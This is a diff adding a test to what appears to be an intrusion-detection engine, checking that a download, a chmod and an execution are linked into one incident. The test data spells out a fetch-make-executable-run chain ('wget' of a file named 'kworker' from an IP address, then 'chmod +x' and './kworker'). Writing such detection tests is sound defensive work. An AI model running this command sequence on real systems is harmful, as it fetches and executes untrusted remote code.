@@ -124,6 +124,21 @@ def test_a_hidden_file_run_by_a_relative_name_without_a_working_directory_keeps_
     assert len({v.incident for v in verdicts}) == 1 and verdicts[0].incident
 
 
+def test_a_file_a_download_names_after_its_url_is_followed_to_its_run(engine):
+    """`wget URL` and `curl -O URL` save the URL's last segment: making that executable and running it is the
+    download's chain."""
+    session = Session()
+    events = [session.exec("wget -q http://203.0.113.9/kworker", 100, "bash"),
+              session.exec("chmod +x kworker", 100, "bash"),
+              session.exec("./kworker", 100, "bash", path="/home/u/kworker")]
+    verdicts = _score(engine, events)
+    assert any(r.startswith("made executable /home/u/kworker, downloaded by wget") for r in verdicts[1].reasons), \
+        verdicts[1]
+    assert any(r.startswith("runs /home/u/kworker, downloaded by wget, then made executable") for r in
+               verdicts[2].reasons), verdicts[2]
+    assert len({v.incident for v in verdicts}) == 1 and verdicts[0].incident
+
+
 def test_a_download_that_looks_routine_joins_the_incident_its_file_starts(engine):
     """The download alone is ordinary (scored below warn); making it executable starts the incident, and the
     download of the same batch is part of it."""
